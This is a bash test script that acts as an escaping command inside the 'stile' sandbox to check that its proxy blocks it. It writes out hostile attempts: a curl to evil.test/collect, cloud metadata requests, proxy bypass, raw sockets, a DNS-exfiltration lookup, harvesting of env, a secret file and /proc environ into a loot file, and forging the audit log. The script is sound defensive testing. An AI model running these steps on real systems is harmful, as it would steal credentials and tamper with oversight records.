#!/usr/bin/env bash
# What tests/demo.sh runs inside `stile run`: it behaves like a command that wants out, and notes what
# it got in $RESULTS, one "name<TAB>outcome" a line. It knows no secret: whatever it can lay hands on goes
# into $LOOT, where demo.sh looks for the tokens.
set -u

: "${RESULTS:?}" "${LOOT:?}" "${ORIGIN:?}" "${FILE_OUTSIDE:?}" "${AUDIT_LOG:?}"
if [ -t 1 ]; then bold=$'\e[1m' dim=$'\e[2m' plain=$'\e[0m'; else bold='' dim='' plain=''; fi

say() { printf '\n%s%s%s\n' "$bold" "$1" "$plain"; }
note() { printf '%s\t%s\n' "$1" "$2" >>"$RESULTS"; }
show() { printf '%s\n' "$1" | cut -c 1-150 | sed "s/^/  $dim/;s/\$/$plain/"; }

# http NAME CURL-ARGUMENTS: prints the status line, the reason and the body of the last answer.
http()
{
	local name=$1 answer status reason
	shift
	printf '  $ curl -si%s\n' "$(printf ' %q' "$@")"
	answer=$(curl -siS --max-time 10 "$@" 2>&1 | tr -d '\r')
	grep -q '^HTTP/.* by stile' <<<"$answer" && answer=$(grep -v '^curl:' <<<"$answer")
	show "$(grep -iE '^(HTTP/|Proxy-Status:|[{]|ok |curl:)' <<<"$answer" | grep -v 'Connection established')"
	status=$(grep -E '^HTTP/' <<<"$answer" | tail -n 1 | cut -d ' ' -f 2)
	reason=$(sed -n 's/^[Pp]roxy-[Ss]tatus: stile;.*details="\(.*\)"$/\1/p' <<<"$answer" | tail -n 1)
	note "$name" "${status:-$(sed -n 's/^curl: \((.*)\).*/curl \1/p' <<<"$answer")}${reason:+ $reason}"
}

# fails NAME COMMAND: notes how a command failed, or that it did not.
fails()
{
	local name=$1 out
	printf '  $ %s\n' "$2"
	if out=$(timeout 10 bash -c "$2" 2>&1); then
		show "$out"
		note "$name" succeeded
	else
		show "$(tail -n 1 <<<"${out:-(no answer)}")"
		case $out in
		*[Uu]nreachable*) note "$name" unreachable ;;
		*'Connection refused'* | *"Couldn't connect"*) note "$name" refused ;;
		*'Permission denied'* | *'Read-only file system'*) note "$name" 'no permission' ;;
		*'No such file'*) note "$name" 'not there' ;;
		'') note "$name" 'no answer' ;;
		*) note "$name" "failed: $(tail -n 1 <<<"$out" | cut -c 1-40)" ;;
		esac
	fi
}

say 'What a rule allows'
http allowed-path "https://$ORIGIN/ok/public/hello"
http second-key -X POST --data hello "https://$ORIGIN/upload"

say 'What no rule allows'
http forbidden-path "https://$ORIGIN/ok/private/keys"
http forbidden-method -X DELETE "https://$ORIGIN/ok/public/hello"
http dotted-path --path-as-is "https://$ORIGIN/ok/public/../private/keys"
http other-host https://evil.test/collect
http metadata http://169.254.169.254/latest/meta-data/
http rebinding https://rebind.test/latest/meta-data/

say 'Ways around the proxy'
fails noproxy "curl -sS --max-time 5 --noproxy '*' --resolve ${ORIGIN}:127.0.0.1 https://$ORIGIN/ok/public/hello"
fails raw-socket 'exec 3<>/dev/tcp/203.0.113.7/443'
fails dns-query 'exec 3<>/dev/udp/203.0.113.53/53 && printf x >&3'
fails dns-lookup 'getent hosts secret-data.evil.test'

say 'Where the tokens might be'
printf '  $ env\n'
env >>"$LOOT"
show "$(env | wc -l) variables, $(env | cut -d = -f 1 | grep -ciE 'token|secret|_key') of them named like a secret"
note env "$(env | wc -l) variables read"
fails secret-file "cat $FILE_OUTSIDE"
cat "$FILE_OUTSIDE" >>"$LOOT" 2>/dev/null
printf '  $ cat /proc/*/environ /proc/*/cmdline\n'
seen=0
for p in /proc/[0-9]*; do
	seen=$((seen + 1))
	cat "$p/environ" "$p/cmdline" 2>/dev/null | tr '\0' '\n' >>"$LOOT"
	cat "$p"/root/"$FILE_OUTSIDE" >>"$LOOT" 2>/dev/null
done
show "$seen processes, all of them the sandbox's own"
note proc "$seen processes read"
fails proc-1 'cat /proc/1/environ'
fails audit-log "echo forged >>$AUDIT_LOG"
exit 0
